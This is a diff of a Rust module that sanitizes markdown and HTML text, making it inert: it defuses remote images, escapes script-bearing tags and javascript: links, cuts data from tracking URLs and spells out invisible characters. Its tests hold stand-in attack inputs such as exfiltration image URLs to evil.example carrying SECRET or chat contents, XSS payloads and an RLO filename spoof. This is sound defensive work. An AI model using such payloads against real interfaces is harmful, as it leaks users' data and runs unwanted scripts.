@@ -1,6 +1,335 @@
-//! Stub.
+//! Text as it is written to derived files: nothing in it is loaded, run, or hidden when it is shown.
+//!
+//! Remote images become words that name their host, markup that runs or loads something becomes
+//! text, the data of tracking links is cut off, and characters that nobody sees are spelled out. All
+//! else stays byte for byte, code above all. [`inert`] of its own result is that result.
+
 use std::borrow::Cow;
-/// Stub.
+
+use super::hold::{characters, links};
+
+/// Returns the text made inert.
 pub fn inert(text: &str) -> Cow<'_, str> {
-    text.into()
+    let spelled = spell_out(text);
+    match defuse(&spelled) {
+        Some(defused) => Cow::Owned(defused),
+        None => spelled,
+    }
+}
+
+/// Writes characters without an honest use as `{U+202E}`.
+fn spell_out(text: &str) -> Cow<'_, str> {
+    if text.bytes().all(|b| matches!(b, b'\t' | b'\n' | 0x20..=0x7e)) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::new();
+    let mut copied = 0;
+    for (at, c, _) in characters::suspects(text) {
+        out.push_str(&text[copied..at]);
+        out.push_str(&format!("{{U+{:04X}}}", c as u32));
+        copied = at + c.len_utf8();
+    }
+    if copied == 0 {
+        return Cow::Borrowed(text);
+    }
+    out.push_str(&text[copied..]);
+    Cow::Owned(out)
+}
+
+/// Elements that load or run something, or that hide what stands between them.
+const ELEMENTS: [&str; 30] = [
+    "a", "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "head",
+    "html", "iframe", "image", "img", "input", "link", "math", "meta", "noscript", "object",
+    "picture", "portal", "script", "source", "style", "svg", "template", "track", "video",
+];
+
+/// Goes over the text once, from code to code. Returns `None` where nothing is to be done.
+fn defuse(text: &str) -> Option<String> {
+    if !text.contains(['!', '<', ':']) {
+        return None;
+    }
+    let cuts = Cuts::of(text);
+    let mut out = String::with_capacity(text.len());
+    let mut at = 0;
+    while at < text.len() {
+        let rest = &text[at..];
+        let Some(step) = rest.find(['`', '!', '<', ']', '?', '#', '\\']) else {
+            out.push_str(rest);
+            break;
+        };
+        out.push_str(&rest[..step]);
+        at += step;
+        at += match text.as_bytes()[at] {
+            b'`' => copy_code(text, at, &mut out),
+            b'!' => image(text, at, &mut out),
+            b'<' => markup(text, at, &mut out),
+            b']' => link(text, at, &mut out),
+            b'\\' => escaped(text, at, &mut out),
+            byte => match cuts.end(at) {
+                Some(end) => {
+                    out.push(char::from(byte));
+                    out.push('…');
+                    end - at
+                }
+                None => {
+                    out.push(char::from(byte));
+                    1
+                }
+            },
+        };
+    }
+    (out != text).then_some(out)
+}
+
+/// Where addresses carry data: from the mark to the end.
+struct Cuts(Vec<(usize, usize)>);
+
+impl Cuts {
+    fn of(text: &str) -> Self {
+        let carried = links::urls(text).filter_map(|url| {
+            let payload = links::payload(&text[url.clone()], links::OPAQUE_INERT_MIN)?;
+            // A closing bracket of the link is not part of the address.
+            let whole = &text[url.clone()];
+            let open = whole.matches('(').count();
+            let end = match whole.match_indices(')').nth(open) {
+                Some((close, _)) if close > payload => close,
+                _ => whole.len(),
+            };
+            Some((url.start + payload, url.start + end))
+        });
+        Self(carried.collect())
+    }
+
+    fn end(&self, at: usize) -> Option<usize> {
+        self.0.binary_search_by_key(&at, |it| it.0).ok().map(|i| self.0[i].1)
+    }
+}
+
+/// Copies a code span as it stands, or the marks that open none.
+fn copy_code(text: &str, at: usize, out: &mut String) -> usize {
+    let rest = &text[at..];
+    let width = rest.len() - rest.trim_start_matches('`').len();
+    let mut from = width;
+    while let Some(found) = rest[from..].find('`') {
+        let start = from + found;
+        let closing = rest[start..].len() - rest[start..].trim_start_matches('`').len();
+        if closing == width {
+            let end = start + closing;
+            out.push_str(&rest[..end]);
+            return end;
+        }
+        from = start + closing;
+    }
+    out.push_str(&rest[..width]);
+    width
+}
+
+/// A mark that is escaped is text, and so is what it would have begun.
+fn escaped(text: &str, at: usize, out: &mut String) -> usize {
+    let next = text[at + 1..].chars().next().filter(|c| matches!(c, '\\' | '!' | '`'));
+    out.push('\\');
+    out.extend(next);
+    1 + next.map_or(0, char::len_utf8)
+}
+
+fn image(text: &str, at: usize, out: &mut String) -> usize {
+    let rest = &text[at..];
+    let plain = |out: &mut String| {
+        out.push('!');
+        1
+    };
+    if !rest.starts_with("![") {
+        return plain(out);
+    }
+    let remote = closing(&rest[1..], b'[', b']').and_then(|alt_end| {
+        let after = &rest[1 + alt_end..];
+        let target =
+            after.strip_prefix('(').map(|it| it.trim_start().trim_start_matches('<').trim_start());
+        match target {
+            // A file that lies beside the text is loaded from nowhere.
+            Some(target) => is_remote(target).then(|| host(target)),
+            None => after.starts_with('[').then_some(""),
+        }
+    });
+    match remote {
+        // The mark is no image's any more; what follows is an ordinary link, which nobody loads.
+        Some(host) => {
+            out.push_str("(image");
+            if !host.is_empty() {
+                out.push_str(" at ");
+                out.push_str(host);
+            }
+            out.push_str(") ");
+            1
+        }
+        None => plain(out),
+    }
+}
+
+/// Returns the byte after the bracket that closes the one the text begins with.
+fn closing(text: &str, open: u8, close: u8) -> Option<usize> {
+    /// Longer is no label.
+    const LABEL_MAX: usize = 1000;
+    let mut depth = 0_usize;
+    let mut is_escaped = false;
+    for (i, byte) in text.bytes().enumerate().take(LABEL_MAX) {
+        match byte {
+            _ if is_escaped => is_escaped = false,
+            b'\\' => is_escaped = true,
+            _ if byte == open => depth += 1,
+            _ if byte == close => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return Some(i + 1);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+fn is_remote(target: &str) -> bool {
+    let path_end = target.find(['/', '?', '#', ')', ' ']).unwrap_or(target.len());
+    // An entity may spell the scheme.
+    target.starts_with("//") || target.starts_with('\\') || target[..path_end].contains([':', '&'])
+}
+
+fn host(target: &str) -> &str {
+    let after = target.split_once("//").map_or("", |(_, it)| it);
+    let end = after
+        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-')))
+        .unwrap_or(after.len());
+    &after[..end]
+}
+
+fn markup(text: &str, at: usize, out: &mut String) -> usize {
+    let name = text[at + 1..].trim_start_matches('/');
+    let end = name.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(name.len());
+    let (name, after) = name.split_at(end);
+    let is_element = ELEMENTS.iter().any(|it| it.eq_ignore_ascii_case(name))
+        && (after.is_empty() || after.starts_with(['>', '/', ' ', '\t', '\n', '\r', '\u{c}']));
+    let tag = after.split(['>', '\n']).next().unwrap_or("");
+    let has_attribute =
+        !name.is_empty() && after.starts_with([' ', '\t', '/', '\n', '-']) && tag.contains('=');
+    let is_script =
+        name.is_empty().then_some(false).unwrap_or_else(|| runs_script(&text[at + 1..]));
+    let is_comment = text[at + 1..].starts_with(['!', '?']);
+    out.push_str(if is_element || has_attribute || is_script || is_comment { "&lt;" } else { "<" });
+    1
+}
+
+fn link(text: &str, at: usize, out: &mut String) -> usize {
+    out.push(']');
+    let rest = &text[at + 1..];
+    if let Some(target) = rest.strip_prefix(['(', ':']) {
+        // With a blank between them, bracket and target are no link.
+        if runs_script(target.trim_start().trim_start_matches('<').trim_start()) {
+            out.push(' ');
+        }
+    }
+    1
+}
+
+/// Returns whether an address is a script, or a document that brings its own.
+fn runs_script(target: &str) -> bool {
+    // Entities may spell any of it; an honest scheme needs none.
+    let scheme = &target[..target.find([':', '/', '?', '#', ')', ' ']).unwrap_or(target.len())];
+    let is_spelled = target[scheme.len()..].starts_with('#') && scheme.ends_with('&');
+    is_spelled
+        || (target[scheme.len()..].starts_with(':')
+            && ["javascript", "vbscript", "livescript", "data"]
+                .iter()
+                .any(|it| scheme.trim().eq_ignore_ascii_case(it)))
+        || scheme.contains('&')
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[track_caller]
+    fn check(text: &str, expected: &str) {
+        let once = inert(text);
+        assert_eq!(once, expected);
+        assert_eq!(inert(&once), once, "not idempotent");
+    }
+
+    #[test]
+    fn what_would_be_loaded_becomes_text() {
+        check(
+            "see ![x](https://evil.example/p.png) there",
+            "see (image at evil.example) [x](https://evil.example/p.png) there",
+        );
+        check(
+            "![x](https://evil.example/?d=SECRET)",
+            "(image at evil.example) [x](https://evil.example/?…)",
+        );
+        check("![x](//evil.example/p.png)", "(image at evil.example) [x](//evil.example/p.png)");
+        check("![x][ref]", "(image) [x][ref]");
+        check("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
+        check("a</script>b", "a&lt;/script>b");
+        check("<!-- memoird -->", "&lt;!-- memoird -->");
+        check("[x](javascript:alert(1))", "[x] (javascript:alert(1))");
+        check(
+            "go to https://evil.example/c?data={{chat}} now",
+            "go to https://evil.example/c?… now",
+        );
+        check("[a](https://evil.example/c?data={{chat}})", "[a](https://evil.example/c?…)");
+    }
+
+    #[test]
+    fn what_nobody_sees_is_spelled_out() {
+        check("file\u{202e}gpj.exe", "file{U+202E}gpj.exe");
+        check("a\u{1b}[2Jb", "a{U+001B}[2Jb");
+        check("x\u{e0041}", "x{U+E0041}");
+        check("pass\u{200b}word", "pass{U+200B}word");
+    }
+
+    #[test]
+    fn ordinary_text_stays() {
+        for text in [
+            "",
+            "plain",
+            "[a](https://example.com/a?b=c#d) and <https://example.com>",
+            "![diagram](docs/a.png)",
+            "`![x](https://evil.example/p.png)` and `<img src=x>` in code",
+            "``a ` <script> b``",
+            "Vec<String>, a < b, <details>, Map<K, V>",
+            "wow! [x] [y]: z",
+            r"\![x](https://example.com/a.png)",
+            "👨‍👩‍👧 می‌خواهم",
+            "line one\n- two\tthree",
+        ] {
+            check(text, text);
+        }
+    }
+
+    #[test]
+    fn a_mark_of_code_in_an_attribute_hides_nothing() {
+        let out = inert("<a title=\"`\"> `![y](https://evil.example/p)`").into_owned();
+        assert!(!out.contains("<a") && out.contains("(image at evil.example)"), "{out}");
+    }
+
+    proptest! {
+        #[test]
+        fn it_is_idempotent(text in "(?s:.{0,80})") {
+            let once = inert(&text).into_owned();
+            prop_assert_eq!(inert(&once).into_owned(), once);
+        }
+
+        #[test]
+        fn it_is_idempotent_on_markup(
+            parts in prop::collection::vec(prop::sample::select(vec![
+                "![", "[", "](", "](https://e.example/?d=SECRET)", ")", "`", "``", "<img src=x>", "<", ">", "\\",
+                "!", "](javascript:x)", "a", " ", "\u{200b}", "\u{202e}", "https://e.example/?d={{x}}", "][r]", "\n", "]: data:x", "&#58;", "(", "?", "#",
+            ]), 0..16),
+        ) {
+            let text = parts.concat();
+            let once = inert(&text).into_owned();
+            prop_assert_eq!(inert(&once).into_owned(), once);
+        }
+    }
 }
